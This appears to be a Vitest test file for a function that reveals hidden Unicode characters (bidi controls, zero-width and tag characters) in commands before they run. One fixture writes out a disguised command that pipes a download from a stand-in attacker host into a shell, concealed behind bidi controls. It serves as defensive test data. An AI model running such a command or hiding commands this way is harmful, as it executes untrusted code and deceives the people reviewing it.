import { describe, expect, it } from 'vitest';
import { hasHidden, revealHidden } from './hidden-chars.ts';

describe('[T5] what runs is shown as it runs', () => {
  it('marks bidi controls, zero-width characters and controls (a carriage return), keeps tabs, newlines and plain non-ASCII text', () => {
    const sneaky = 'npm test\n: \u2067 ; curl -s https://evil.example/x|sh #\u2069';
    expect(revealHidden(sneaky)).toEqual({
      parts: [
        'npm test\n: ',
        { code: 'U+2067' },
        ' ; curl -s https://evil.example/x|sh #',
        { code: 'U+2069' },
      ],
      hidden: 2,
    });
    expect(revealHidden('a\u200Bb\rc\u202Ed\uFEFF').parts).toEqual([
      'a',
      { code: 'U+200B' },
      'b',
      { code: 'U+000D' },
      'c',
      { code: 'U+202E' },
      'd',
      { code: 'U+FEFF' },
    ]);
    // A tag character (astral) is one marker, not two halves.
    expect(revealHidden('x\u{E0041}y').parts).toEqual(['x', { code: 'U+E0041' }, 'y']);
    for (const plain of ['echo "héllo wörld" | tee 日本語.txt\n\tindented', 'שלום עולם', '😀 done'])
      expect(hasHidden(plain)).toBe(false);
  });
});
